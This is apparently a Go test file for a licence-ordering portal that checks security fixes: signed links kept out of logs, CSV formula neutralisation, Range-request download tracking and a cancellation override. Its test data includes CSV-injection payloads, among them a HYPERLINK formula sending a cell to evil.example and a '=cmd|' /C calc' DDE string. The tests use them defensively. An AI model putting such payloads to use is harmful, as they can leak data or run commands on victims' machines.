package server_test

// Tests of the security review's findings: each fails on the code before its fix.

import (
	"bytes"
	"context"
	"log/slog"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"partnerdesk/internal/app"
	"partnerdesk/internal/app/apptest"
	"partnerdesk/internal/demo"
	"partnerdesk/internal/desk"

	"github.com/labstack/echo/v4"
)

// syncBuffer is a log destination the server goroutines write while the test reads.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}
func (s *syncBuffer) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }

// startLogged starts PartnerDesk with its log captured.
func startLogged(t *testing.T, format string) (*apptest.Env, *syncBuffer) {
	buf := &syncBuffer{}
	env := apptest.StartWith(t, func(c *app.Config) {
		c.Logger = slog.New(slog.NewTextHandler(buf, nil))
		if format == "json" {
			c.Logger = slog.New(slog.NewJSONHandler(buf, nil))
		}
	})
	return env, buf
}

// secCopyLink issues a shared download link of a Contoso purchase as the admin agent.
func secCopyLink(t *testing.T, env *apptest.Env) (token string, ed desk.Edition, entID string) {
	t.Helper()
	ent, p := swPurchase(t, env, apptest.ContosoID, "Windows Server 2022 Standard - 2 Core")
	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
	ed, ok := p.Edition(ref)
	if !ok {
		t.Fatal("no edition")
	}
	u, _, err := env.App.Store.FindUserByEmail(context.Background(), swUsers["admin"])
	if err != nil {
		t.Fatal(err)
	}
	link, err := env.App.Service.IssueLink(context.Background(), desk.Actor{User: u, IP: "127.0.0.1"}, apptest.ContosoID, ent, ref, true)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimPrefix(link.URL, "/dl/"), ed, ent
}

// Finding 2: no logger and no error log writes a signed download link (the request log, the
// error handler, the panic log, the API's), in text or JSON.
func TestLogsNeverHoldSignedLinks(t *testing.T) {
	for _, format := range []string{"text", "json"} {
		t.Run(format, func(t *testing.T) {
			env, buf := startLogged(t, format)
			token, _, _ := secCopyLink(t, env)
			env.App.Server.AddTestRoute(http.MethodGet, "/dl/:token/panic", func(echo.Context) error { panic("boom") })
			anon := env.Client()
			for _, r := range []struct {
				method, path string
				headers      []string
			}{
				{"GET", "/dl/" + token, nil},
				{"HEAD", "/dl/" + token, nil},
				{"GET", "/dl/" + token, []string{"Range", "bytes=0-9"}},
				{"GET", "/dl/" + token + "x", nil},        // a damaged link: 403
				{"GET", "/dl/" + token + "/more", nil},    // no such route
				{"POST", "/dl/" + token, nil},             // no such method
				{"GET", "/dl/" + token + "/panic", nil},   // a panic
				{"GET", "/v1/dl/" + token, nil},           // the API's 404
				{"GET", "/signin?next=/dl/" + token, nil}, // the query is never logged either
			} {
				req, _ := http.NewRequest(r.method, env.URL+r.path, nil)
				for i := 0; i+1 < len(r.headers); i += 2 {
					req.Header.Set(r.headers[i], r.headers[i+1])
				}
				env.Do(t, anon, req)
			}
			// An outage: the error handlers log the failure of the portal and of the API.
			env.App.Store.Close()
			if res := env.Get(t, anon, "/dl/"+token); res.StatusCode != http.StatusInternalServerError {
				t.Errorf("/dl/ with the database closed: %d, want 500", res.StatusCode)
			}
			if res := env.Get(t, anon, "/v1/customers", "Authorization", "Bearer pdk_"+strings.Repeat("a", 40)); res.StatusCode != http.StatusInternalServerError {
				t.Errorf("API with the database closed: %d, want 500", res.StatusCode)
			}
			out := buf.String()
			for _, part := range append([]string{token}, strings.Split(token, ".")...) {
				if strings.Contains(out, part) {
					t.Fatalf("the log holds the signed link (%q):\n%s", part, out)
				}
			}
			for _, want := range []string{"/dl/:token", "panic", "boom", "internal error", "api internal error"} {
				if !strings.Contains(out, want) {
					t.Errorf("the log lacks %q:\n%s", want, out)
				}
			}
		})
	}
}

// Finding 4: the support form's order reference is an identifier, and the exports neutralise
// every cell a spreadsheet would run as a formula, also after leading spaces or tabs, and in
// every column (the order column was written raw).
func TestExportsNeutraliseFormulas(t *testing.T) {
	env := apptest.Start(t)
	ctx := context.Background()
	admin := env.SignIn(t, swUsers["admin"])
	before := cnSupportCount(t, env)
	for _, ref := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Refund")`, " =1+1", "|calc", "ORDER 1"} {
		f := cnSupportFields()
		f.Set("order_ref", ref)
		res := cnFileSupport(t, env, admin, f)
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(testid(doc(t, res.Body), "field-error-order_ref").Text()+res.Body, "order ID or a subscription ID") {
			t.Errorf("order reference %q: %d, want 422 naming the field", ref, res.StatusCode)
		}
	}
	if n := cnSupportCount(t, env); n != before {
		t.Fatalf("%d support requests stored from refused forms", n-before)
	}
	// Events with formula-like text in every text column (as older data, or any other route,
	// could hold): the export neutralises each.
	cells := []string{"=1+1", " +1", "\t-2+3", "@SUM(A1)", "|calc", "%0A", "  =cmd|' /C calc'!A0", "\r=1", "＝1"}
	for i, v := range cells {
		actAppend(t, env, desk.Event{At: apptest.Epoch.Add(time.Duration(i) * time.Second), Operation: desk.OpFileSupport, ResourceType: "support_request",
			CustomerID: apptest.ContosoID, CustomerName: v, ActorEmail: v, Product: v, OrderID: v, IP: "127.0.0.1", Detail: v})
	}
	_, recs := actCSV(t, env, env.SignIn(t, swUsers["global"]), url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpFileSupport}})
	if len(recs)-1 != len(cells) {
		t.Fatalf("%d rows, want %d", len(recs)-1, len(cells))
	}
	for _, r := range recs[1:] {
		for _, col := range []string{"customerName", "userPrincipalName", "product", "orderId", "detail"} {
			if v := actCol(t, [][]string{recs[0], r}, 1, col); !strings.HasPrefix(v, "'") {
				t.Errorf("%s %q is not neutralised", col, v)
			}
		}
	}
	// The invoice export too: a customer named like a formula, with an order.
	ga := env.SignIn(t, swUsers["global"])
	id := actNewCustomer(t, env, ga, "|calc Ltd.", "pipecalc")
	offer, _ := demoOfferPair(t)
	o, _, err := env.App.Service.PlaceOrder(ctx, actActor(t, env, swUsers["sales"], "127.0.0.1"), id, "csv-pipe", []desk.CartLine{{OfferID: offer, Quantity: 1}})
	if err != nil {
		t.Fatal(err)
	}
	res := env.Get(t, env.SignIn(t, swUsers["billing"]), "/billing/invoices/"+desk.InvoiceID(desk.Period(o.CreatedAt), o.Currency)+"/csv")
	if res.StatusCode != http.StatusOK || !strings.Contains(res.Body, ",'|calc Ltd.,") || strings.Contains(res.Body, ",|calc") {
		t.Errorf("invoice export: %d, the customer name not neutralised:\n%.600s", res.StatusCode, res.Body)
	}
	// Amounts stay plain numbers, credits negative, so that the spreadsheet can add them up.
	if !regexp.MustCompile(`,-?[0-9]+,-?[0-9]+,-?[0-9]+,HUF,`).MatchString(res.Body) {
		t.Errorf("invoice amounts are not plain numbers:\n%.600s", res.Body)
	}
}

// demoOfferPair is a perpetual Windows Server offer (sold in every market).
func demoOfferPair(t *testing.T) (string, string) {
	t.Helper()
	o, ok := demo.ResolveOffer(demo.Catalog(), "Windows Server 2022 Standard - 2 Core", desk.TermNone)
	if !ok {
		t.Fatal("no Windows Server offer")
	}
	return o.ID, o.Title
}

// secFreshLink places a fresh order of a Windows Server licence for Contoso and copies a link to
// it: a purchase that has never been downloaded.
func secFreshLink(t *testing.T, env *apptest.Env) (path string, ed desk.Edition, o desk.Order) {
	t.Helper()
	o = cnPlace(t, env, apptest.ContosoID, cnLine(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
	ent := o.Lines[0].EntitlementID
	ref := desk.EditionRef{Version: "2022", Language: "hu-hu", Bitness: "64-bit"}
	link, err := env.App.Service.IssueLink(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID, ent, ref, true)
	if err != nil {
		t.Fatal(err)
	}
	_, items, err := env.App.Service.Software(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID)
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range items {
		if it.ID == ent {
			ed, _ = it.Product.Edition(ref)
		}
	}
	return link.URL, ed, o
}

// secDownloaded reports whether the purchase is marked downloaded, and how many shared-link
// downloads of its order are recorded.
func secDownloaded(t *testing.T, env *apptest.Env, o desk.Order) (bool, int) {
	t.Helper()
	it := cxItemHTTP(t, env, o.Lines[0].EntitlementID)
	n := 0
	for _, e := range swEvents(t, env, desk.OpSharedDownload) {
		if e.OrderID == o.ID {
			n++
		}
	}
	return !it.DownloadedAt.IsZero(), n
}

func cxItemHTTP(t *testing.T, env *apptest.Env, ent string) desk.SoftwareItem {
	t.Helper()
	_, it, err := env.App.Service.SoftwareItem(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID, ent)
	if err != nil {
		t.Fatal(err)
	}
	return it
}

// Finding 1: a shared link fetched with any Range that sends content marks the purchase
// downloaded — so the cancel dialog no longer offers full credit for it — and is recorded; at
// most one range is served per request; answers without content record nothing.
func TestRangeDownloadsAreRecorded(t *testing.T) {
	env := apptest.Start(t)
	anon := env.Client()
	for _, tt := range []struct {
		name    string
		headers []string
		method  string
		status  int
		whole   bool // the body is the whole file
		marked  bool
	}{
		{"whole file", nil, "GET", 200, true, true},
		{"bytes=0-huge", []string{"Range", "bytes=0-99999999999"}, "GET", 206, true, true},
		{"bytes=-size", []string{"Range", "bytes=-%d"}, "GET", 206, true, true},
		{"bytes=-huge", []string{"Range", "bytes=-99999999999"}, "GET", 206, true, true},
		{"skips the first byte", []string{"Range", "bytes=1-"}, "GET", 206, false, true},
		{"a suffix", []string{"Range", "bytes=-100"}, "GET", 206, false, true},
		{"a middle piece", []string{"Range", "bytes=10-19"}, "GET", 206, false, true},
		{"two ranges", []string{"Range", "bytes=0-0,1-"}, "GET", 200, true, true},
		{"many ranges", []string{"Range", "bytes=0-9,10-19,20-29,30-"}, "GET", 200, true, true},
		{"overlapping ranges", []string{"Range", "bytes=0-,0-,0-"}, "GET", 200, true, true},
		{"If-Range that does not match", []string{"Range", "bytes=100-", "If-Range", `"stale"`}, "GET", 200, true, true},
		{"HEAD", nil, "HEAD", 200, false, false},
		{"HEAD with a range", []string{"Range", "bytes=0-"}, "HEAD", 206, false, false},
		{"not modified", []string{"If-None-Match", "%etag"}, "GET", 304, false, false},
		{"unsatisfiable", []string{"Range", "bytes=99999999999-"}, "GET", 416, false, false},
		{"not a byte range", []string{"Range", "items=0-1"}, "GET", 416, false, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			path, ed, o := secFreshLink(t, env)
			req, _ := http.NewRequest(tt.method, env.URL+path, nil)
			for i := 0; i+1 < len(tt.headers); i += 2 {
				v := tt.headers[i+1]
				v = strings.ReplaceAll(v, "%d", strconv.FormatInt(ed.Size, 10))
				v = strings.ReplaceAll(v, "%etag", strconv.Quote(ed.SHA256))
				req.Header.Set(tt.headers[i], v)
			}
			res := env.Do(t, anon, req)
			if res.StatusCode != tt.status {
				t.Fatalf("%s: status %d, want %d", tt.name, res.StatusCode, tt.status)
			}
			if ct := res.Header.Get("Content-Type"); strings.HasPrefix(ct, "multipart/") {
				t.Errorf("several ranges served as %s", ct)
			}
			if tt.whole && (int64(len(res.Body)) != ed.Size || swSHA([]byte(res.Body)) != ed.SHA256) {
				t.Errorf("body: %d bytes, want the whole file (%d)", len(res.Body), ed.Size)
			}
			marked, n := secDownloaded(t, env, o)
			if marked != tt.marked || (n == 1) != tt.marked || n > 1 {
				t.Fatalf("after %s: downloaded %v with %d shared-link download events, want %v", tt.name, marked, n, tt.marked)
			}
			if !tt.marked {
				return
			}
			// The cancel dialog sees it: a support request, not a cancellation.
			admin := env.SignIn(t, swUsers["admin"])
			d := doc(t, env.Get(t, admin, cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)+"/cancel?order_id="+o.ID).Body)
			if st := testid(d, "cancel-info").AttrOr("data-state", ""); st != desk.CancelNeedsSupport {
				t.Errorf("cancel dialog state %q after the download, want %s", st, desk.CancelNeedsSupport)
			}
		})
	}
	// A download resumed after the first one is the same download: no second event.
	path, _, o := secFreshLink(t, env)
	env.Get(t, anon, path)
	env.Get(t, anon, path, "Range", "bytes=100-")
	env.Get(t, anon, path, "Range", "bytes=200-299")
	if _, n := secDownloaded(t, env, o); n != 1 {
		t.Errorf("%d events for one download resumed twice", n)
	}
}

// A link whose purchase is cancelled between the check and the first byte sends nothing.
func TestDeliveryRefusedAfterCancellation(t *testing.T) {
	env := apptest.Start(t)
	path, _, o := secFreshLink(t, env)
	dl, err := env.App.Service.CheckDownload(context.Background(), strings.TrimPrefix(path, "/dl/"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := env.App.Service.Cancel(context.Background(), cnActor(t, env, swUsers["admin"]), desk.CancelRequest{CustomerID: apptest.ContosoID, OrderID: o.ID, Lines: []int{0}}); err != nil {
		t.Fatal(err)
	}
	if err := env.App.Service.Deliver(context.Background(), dl, "203.0.113.1", true); desk.ErrorCode(err) != desk.EGONE {
		t.Fatalf("delivery after the cancellation: %v, want EGONE", err)
	}
	if res := env.Get(t, env.Client(), path); res.StatusCode != http.StatusGone {
		t.Fatalf("GET after the cancellation: %d, want 410", res.StatusCode)
	}
}

// Finding 7 in the portal: the dialog and the API share the rule; a Global admin (and no one
// else) may cancel anyway a purchase that needs a support request, giving a reason that the
// activity log shows.
func TestCancelOverrideInDialog(t *testing.T) {
	env := apptest.Start(t)
	path, _, o := secFreshLink(t, env)
	env.Get(t, env.Client(), path) // downloaded through the shared link
	base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)

	// The Admin agent sees the support request link and no way around it.
	agent := env.SignIn(t, swUsers["admin"])
	d := doc(t, env.Get(t, agent, base+"/cancel?order_id="+o.ID).Body)
	if testid(d, "needs-support").Length() != 1 || testid(d, "override").Length() != 0 || testid(d, "cancel-submit").Length() != 0 {
		t.Fatalf("the Admin agent's dialog: needs-support %d, override %d, submit %d", testid(d, "needs-support").Length(), testid(d, "override").Length(), testid(d, "cancel-submit").Length())
	}
	form := url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}, "override": {"yes"}, "override_reason": {"SR-000042 approved"}}
	if res := env.PostForm(t, agent, base+"/cancel", form); res.StatusCode != http.StatusForbidden {
		t.Fatalf("an Admin agent's override: %d, want 403", res.StatusCode)
	}
	if res := env.PostForm(t, agent, base+"/cancel", url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}}); res.StatusCode != http.StatusBadRequest ||
		!strings.Contains(res.Body, "already been downloaded") {
		t.Fatalf("an Admin agent's cancellation: %d, want 400 saying why", res.StatusCode)
	}
	cnUnchanged(t, env, apptest.ContosoID, o.ID, "after the refused attempts")
	denied := false
	for _, ev := range swEvents(t, env, desk.OpPermissionDenied) {
		denied = denied || strings.HasPrefix(ev.Detail, string(desk.PermOverrideCancelPolicy)+" ")
	}
	if !denied {
		t.Error("the Admin agent's refused override is not in the activity log")
	}

	// The Global admin sees the override: a reason, the Important message and its checkbox.
	global := env.SignIn(t, swUsers["global"])
	d = doc(t, env.Get(t, global, base+"/cancel?order_id="+o.ID).Body)
	if testid(d, "override").Length() != 1 || testid(d, "override-reason").Length() != 1 || testid(d, "cancel-ack").Length() != 1 || testid(d, "cancel-submit").Length() != 1 {
		t.Fatal("the Global admin's dialog offers no override")
	}
	for name, f := range map[string]url.Values{
		"no reason":          {"order_id": {o.ID}, "acknowledge": {"yes"}, "override": {"yes"}, "override_reason": {"  "}},
		"no acknowledgement": {"order_id": {o.ID}, "override": {"yes"}, "override_reason": {"SR-000042 approved"}},
	} {
		if res := env.PostForm(t, global, base+"/cancel", f); res.StatusCode != http.StatusBadRequest || testid(doc(t, res.Body), "msg-danger").Length() != 1 {
			t.Errorf("%s: %d, want 400 with the message", name, res.StatusCode)
		}
	}
	cnUnchanged(t, env, apptest.ContosoID, o.ID, "after the incomplete overrides")
	res := env.PostForm(t, global, base+"/cancel", form, htmx()...)
	if res.StatusCode != http.StatusOK || testid(doc(t, res.Body), "cancel-confirmation").Length() != 1 {
		t.Fatalf("the Global admin's override: %d\n%.400s", res.StatusCode, res.Body)
	}
	if st, n := cnState(t, env, apptest.ContosoID, o.ID, 0); st != desk.StatusCancelled || n != 1 {
		t.Fatalf("after the override: %s, %d cancellations", st, n)
	}
	// The activity log names the override and its reason, in both languages.
	ref := env.SignIn(t, swUsers["referrals"])
	_, page := actPage(t, env, ref, url.Values{"from": {"2026-11-25"}, "to": {"2026-11-25"}, "action": {desk.OpUpdateOrder}})
	if txt := page.Text(); !strings.Contains(txt, "support-request rule overridden: SR-000042 approved") {
		t.Errorf("the activity log does not show the override's reason")
	}
}
